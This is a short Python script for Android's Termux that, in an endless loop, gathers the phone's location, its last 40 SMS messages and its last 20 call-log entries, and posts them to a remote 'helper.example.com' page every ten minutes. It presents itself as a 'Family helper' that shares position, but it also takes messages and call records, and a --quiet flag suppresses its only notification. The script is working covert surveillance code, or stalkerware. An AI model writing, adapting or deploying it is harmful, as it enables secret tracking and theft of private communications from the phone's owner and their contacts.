"""Sends what the page wants to see."""
import argparse
import json
import subprocess
import time
import urllib.request


def ask(*command):
    try:
        return json.loads(subprocess.run(command, capture_output=True, text=True, timeout=60).stdout or "null")
    except (ValueError, OSError, subprocess.TimeoutExpired):
        return None


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--page", required=True)
    ap.add_argument("--every", type=int, default=600)
    ap.add_argument("--quiet", action="store_true")
    a = ap.parse_args()
    while True:
        data = {"where": ask("termux-location", "-p", "network"), "sms": ask("termux-sms-list", "-l", "40"), "calls": ask("termux-call-log", "-l", "20")}
        if not a.quiet:
            subprocess.run(["termux-notification", "--title", "Family helper", "--content", "position shared"])
        try:
            urllib.request.urlopen("https://helper.example.com/p/" + a.page, data=json.dumps(data).encode(), timeout=30)
        except OSError:
            pass
        time.sleep(a.every)


if __name__ == "__main__":
    main()
